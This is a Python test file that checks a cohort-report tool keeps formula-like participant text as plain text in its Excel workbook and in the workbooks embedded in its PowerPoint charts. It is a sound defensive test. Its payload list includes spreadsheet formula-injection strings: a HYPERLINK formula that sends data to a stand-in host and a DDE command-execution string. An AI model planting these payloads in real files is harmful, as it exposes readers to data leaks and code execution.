"""Participant text that looks like a formula stays text in every cohort output, including the
workbooks embedded in the deck's charts."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

from cba_xl import api
from cba_xl.cohort import consolidate
from cba_xl.core.models import Homework
from cba_xl.sample import demo_cohort

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak","INJ-A")',
    "+INJ-B+1",
    "-INJ-C-1",
    "@SUM(INJ-D)",
    "=cmd|' /C calc'!INJ-E",
)


def _poisoned(hw: Homework, n: int) -> Homework:
    """Every free-text field of the homework starts like a formula."""
    i = iter(range(10_000))

    def bad() -> str:
        return PAYLOADS[next(i) % len(PAYLOADS)] + f" {n}"

    p = hw.profile
    p.cluster_name, p.region, p.manager_name = bad(), bad(), bad()
    for pick in hw.challenges:
        pick.note = bad()
    for canvas in hw.canvases:
        for key, items in canvas.blocks.items():
            canvas.blocks[key] = [bad() for _ in items] or [bad()]
    for c in hw.changes:
        c.change, c.feedback = bad(), bad()
    for s in hw.services:
        s.service, s.field = bad(), bad()
    for a in hw.actions:
        a.action = bad()
    for g in hw.goals:
        g.goal, g.metric, g.owner = bad(), bad(), bad()
    for step in hw.plan:
        step.action, step.responsible, step.stakeholders = bad(), bad(), bad()
        step.requirements, step.outcome = bad(), bad()
    for person in hw.raci_people:
        person.name = bad()
    for row in hw.raci:
        row.deliverable = bad()
    return hw


def _parts(path: Path) -> dict[str, bytes]:
    """Every part of an Office file, and of the Office files embedded in it, by name."""
    out: dict[str, bytes] = {}
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            data = z.read(name)
            out[name] = data
            if name.endswith(".xlsx"):
                with zipfile.ZipFile(io.BytesIO(data)) as inner:
                    for part in inner.namelist():
                        out[f"{name}/{part}"] = inner.read(part)
    return out


FORMULA = re.compile(rb"<(?:\w+:)?f(?:\s[^>]*)?>(.*?)</(?:\w+:)?f>", re.S)


def test_formula_like_text_never_becomes_a_formula(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    for n, hw in enumerate(demo_cohort()[:4]):
        api.write_homework(inputs / f"{n}.xlsx", _poisoned(hw, n))
    book, deck = tmp_path / "cohort.xlsx", tmp_path / "cohort.pptx"
    summary = consolidate([inputs], book, deck=deck, jobs=1)
    assert summary.participants == 4

    parts = _parts(book)
    sheets = b"".join(v for k, v in parts.items() if k.startswith("xl/worksheets/"))
    # The payloads made it into the cohort workbook, as text ...
    for marker in (b"INJ-A", b"INJ-B", b"INJ-C", b"INJ-D", b"INJ-E"):
        assert marker in sheets, marker
    # ... and no cell holds a formula at all; the charts' range references are ours.
    assert not FORMULA.search(sheets)
    for name, data in parts.items():
        for formula in FORMULA.findall(data):
            assert b"INJ" not in formula, (name, formula)

    deck_parts = _parts(deck)
    assert any("embeddings" in k for k in deck_parts), "the deck should have native charts"
    for name, data in deck_parts.items():
        for formula in FORMULA.findall(data):
            assert b"INJ" not in formula, (name, formula)
        if name.startswith("ppt/embeddings/") and "/xl/worksheets/" in name:
            assert b"INJ" not in b"".join(FORMULA.findall(data)), name
